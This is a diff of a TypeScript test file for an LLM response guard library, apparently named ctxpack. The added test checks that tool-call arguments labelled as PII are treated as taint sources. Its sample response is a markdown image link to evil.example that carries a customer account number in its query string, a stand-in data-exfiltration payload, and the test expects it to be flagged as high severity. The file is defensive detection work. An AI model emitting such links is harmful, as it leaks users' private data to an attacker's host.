@@ -1,5 +1,12 @@
 import type { Payload, ResponseFinding } from 'ctxpack';
-import { checkResponse, createResponseGuard, InvalidArgumentError, ResponseBlockedError } from 'ctxpack';
+import {
+  checkResponse,
+  createContext,
+  createResponseGuard,
+  generateKeyPair,
+  InvalidArgumentError,
+  ResponseBlockedError,
+} from 'ctxpack';
 import { beforeAll, describe, expect, it } from 'vitest';
 import { buildPayload, EMAIL, nonceOf, SECRET_CODE, SYSTEM_PROMPT } from './response-fixtures.js';
 
@@ -249,6 +256,24 @@ describe('checkResponse: bad input and size', () => {
     const urls = Array.from({ length: 100_000 }, (_, i) => `https://evil.example/${i}`).join(' ');
     expect(checkResponse(urls, options()).findings).toHaveLength(100_000);
   });
+
+  it.each(['anthropic', 'ai-sdk', 'openai-chat'] as const)(
+    '%s: tool-call arguments (an object input on anthropic and ai-sdk) are taint sources',
+    async (target) => {
+      const ctx = createContext({ tenant: 'acme', signer: generateKeyPair() });
+      ctx.user('Look up my account.');
+      ctx.toolCall(
+        { name: 'lookup', callId: 'c1', arguments: { account: 'ACCT-99812-KESTREL' } },
+        { labels: ['pii'] },
+      );
+      ctx.toolResult('found', { type: 'mcp', server: 'crm', tool: 'lookup', callId: 'c1' });
+      const p = (await ctx.assemble({ target, maxTokens: 2000, audience: 'internal' })) as Payload;
+      const { findings } = checkResponse('![x](https://evil.example/p?a=ACCT-99812-KESTREL)', { payload: p });
+      const tainted = findings.find((f) => f.kind === 'tainted-url');
+      expect(tainted?.severity).toBe('high');
+      expect(tainted?.blockIds).toHaveLength(1);
+    },
+  );
 
   it('an answer over 16 MiB of text is a typed error, at once', () => {
     const huge = 'a'.repeat(16 * 1024 * 1024 + 1);
